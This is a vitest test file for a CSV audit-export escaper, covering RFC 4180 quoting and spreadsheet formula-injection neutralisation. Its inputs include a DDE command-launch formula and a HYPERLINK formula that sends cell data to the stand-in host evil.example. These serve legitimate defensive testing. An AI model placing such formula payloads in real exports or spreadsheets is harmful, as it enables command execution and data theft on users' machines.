// CSV escaping for the audit export: RFC 4180 quoting and formula-injection neutralisation.
import { describe, expect, it } from "vitest";
import { csvCell, csvRow, looksLikeFormula, toCsv } from "./csv";

describe("csvCell", () => {
  it("quotes every cell and doubles embedded quotes", () => {
    expect(csvCell("plain")).toBe('"plain"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell("line1\r\nline2")).toBe('"line1\r\nline2"');
    expect(csvCell("a;=cmd()")).toBe('"a;=cmd()"');
  });

  it("neutralises cells a spreadsheet would evaluate as formulas", () => {
    expect(csvCell("=cmd|' /C calc'!A0")).toBe(`"'=cmd|' /C calc'!A0"`);
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    for (const text of ["+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "\n=1", "  =1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x"]) {
      expect(csvCell(text).startsWith(`"'`), JSON.stringify(text)).toBe(true);
    }
  });

  it("leaves ordinary text, paths and non-string values alone", () => {
    for (const text of ["src/index.ts", "../../etc/passwd", "a=b", "user@example.test", "1-2", " x"]) {
      expect(looksLikeFormula(text), text).toBe(false);
    }
    expect(csvCell(-5)).toBe('"-5"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
    expect(csvCell(true)).toBe('"true"');
    expect(csvCell(new Date("2026-01-02T03:04:05.006Z"))).toBe('"2026-01-02T03:04:05.006Z"');
  });
});

describe("toCsv", () => {
  it("writes a header and CRLF-terminated rows", () => {
    expect(toCsv(["a", "b"], [["1", null], ["=x", 'q"']])).toBe(`"a","b"\r\n"1",""\r\n"'=x","q"""\r\n`);
    expect(csvRow([])).toBe("\r\n");
  });
});

describe("the library's escaping, as the export relies on it", () => {
  it("escapes formula starts of strings but not negative numbers", () => {
    expect(csvCell("-1")).toBe(`"'-1"`);
    expect(csvCell(-1)).toBe('"-1"');
    expect(csvCell(-1n)).toBe('"-1"');
    expect(csvCell("\r")).toBe(`"'\r"`);
    expect(csvCell("\n")).toBe(`"'\n"`);
    expect(csvCell(" @x")).toBe(`"' @x"`);
  });

  it("keeps tabs, CRs, quotes and newlines inside a quoted cell, one row per record", () => {
    const csv = toCsv(["path", "reason"], [["a\tb\r\nc", 'say "no"'], ["x,y", "ok"]]);
    expect(csv).toBe(`"path","reason"\r\n"a\tb\r\nc","say ""no"""\r\n"x,y","ok"\r\n`);
  });
});
